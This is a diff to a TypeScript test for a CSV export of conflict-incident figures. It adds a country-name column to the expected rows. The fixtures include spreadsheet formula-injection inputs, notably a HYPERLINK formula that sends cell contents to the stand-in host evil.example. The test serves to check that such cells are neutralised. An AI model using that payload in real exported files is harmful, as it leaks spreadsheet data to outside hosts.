@@ -10,6 +10,7 @@ import type { Db, Tx } from "@/lib/db";
 import { databaseUrlOf, endRawPools, rawPool } from "@/lib/db/raw-pg";
 import { FIGURES_COLUMNS } from "@/lib/export/columns";
 import { formatCell, listCell, type Cell } from "@/lib/export/csv-cell";
+import { countryName } from "@/lib/datasets/dataset-mapping";
 import { isoDay } from "@/lib/validation/calendar-day";
 import { csvText, openExport } from "@/lib/export/export-registry";
 import { exportManifest } from "@/lib/export/export-response";
@@ -263,6 +264,7 @@ async function expectedFigures(filter: IncidentFilter): Promise<string> {
         isoDay(i.dateEnd),
         i.datePrecision,
         i.countryIso3,
+        countryName(i.countryIso3),
         i.admin1,
         i.admin2,
         i.placeName,
@@ -328,20 +330,20 @@ describe("figures.csv by COPY", () => {
     const text = actual.toString("utf8");
     expect(text.startsWith(`${FIGURES_COLUMNS.join(",")}\r\n`)).toBe(true);
     expect(text).toContain(
-      `AAA-2024-0001,"'=HYPERLINK(""http://evil.example/?q=""&A1)",2024-05-01,2024-05-01,day,MLI,,,'+place,0.00001,-0.000001,3,'-Battles,'@sub,killed,civilians,2,3,40,editor,parties_only;contested,2,2,2,alpha;alpha-2;alpha2;zeta,fair,2024-05-06T07:08:09.240Z\r\n`,
+      `AAA-2024-0001,"'=HYPERLINK(""http://evil.example/?q=""&A1)",2024-05-01,2024-05-01,day,MLI,Mali,,,'+place,0.00001,-0.000001,3,'-Battles,'@sub,killed,civilians,2,3,40,editor,parties_only;contested,2,2,2,alpha;alpha-2;alpha2;zeta,fair,2024-05-06T07:08:09.240Z\r\n`,
     );
     expect(text).toContain(
-      `AAA-2024-0002,"'\tTabbed, with a comma",2024-06-01,2024-06-01,day,MLI,,,''=already neutralised,0,0,3,'''+two apostrophes,'Tis an apostrophe,killed,civilians`,
+      `AAA-2024-0002,"'\tTabbed, with a comma",2024-06-01,2024-06-01,day,MLI,Mali,,,''=already neutralised,0,0,3,'''+two apostrophes,'Tis an apostrophe,killed,civilians`,
     );
     expect(text).toContain(
-      `AAA-2024-0003,"Line one\nline two",2024-02-01,2024-02-01,day,MLI,"Gao, ""north""",Ménaka,Tillabéri — 北京 🙂,89.999999999,179.99999999999997,3,Battles,,`,
+      `AAA-2024-0003,"Line one\nline two",2024-02-01,2024-02-01,day,MLI,Mali,"Gao, ""north""",Ménaka,Tillabéri — 北京 🙂,89.999999999,179.99999999999997,3,Battles,,`,
     );
-    expect(text).toContain(`"CRLF\r\ninside, and ""quotes""",2024-05-05,2024-05-05,day,NER,Gao,,Place of AAA-2024-0004,-0.000025,1e-7,`);
-    expect(text).toContain(`AAA-2024-0005,"'\r=1",2024-07-01,2024-07-01,day,MLI,Gao,,Place of AAA-2024-0005,-90,180,`);
-    expect(text).toContain(`AAA-2024-0010,'-,2024-05-04,2024-05-04,day,MLI,'-,,',90,-179.99999999999997,`);
-    expect(text).toContain(`aaa-2024-0011,lower-case code,2024-05-04,2024-05-04,day,BFA,Gao,,Place of aaa-2024-0011,5e-324,-1e-300,`);
+    expect(text).toContain(`"CRLF\r\ninside, and ""quotes""",2024-05-05,2024-05-05,day,NER,Niger,Gao,,Place of AAA-2024-0004,-0.000025,1e-7,`);
+    expect(text).toContain(`AAA-2024-0005,"'\r=1",2024-07-01,2024-07-01,day,MLI,Mali,Gao,,Place of AAA-2024-0005,-90,180,`);
+    expect(text).toContain(`AAA-2024-0010,'-,2024-05-04,2024-05-04,day,MLI,Mali,'-,,',90,-179.99999999999997,`);
+    expect(text).toContain(`aaa-2024-0011,lower-case code,2024-05-04,2024-05-04,day,BFA,Burkina Faso,Gao,,Place of aaa-2024-0011,5e-324,-1e-300,`);
     expect(text).toContain(
-      `AAA-2024-0012,Near the thresholds,2024-05-04,2024-05-04,day,BFA,Gao,,Place of AAA-2024-0012,1.5e-7,-0.00009999999999999999,`,
+      `AAA-2024-0012,Near the thresholds,2024-05-04,2024-05-04,day,BFA,Burkina Faso,Gao,,Place of AAA-2024-0012,1.5e-7,-0.00009999999999999999,`,
     );
     expect(text).toContain(`,injured,attackers,3,4,9,source_priority,single_source,3,3,3,beta,fair,2024-05-06T07:08:09.360Z\r\n`);
     expect(text).toContain(`,abducted,civilians,0,1,3,source_priority,,0,0,0,,fair,2024-05-06T07:08:09.000Z\r\n`);
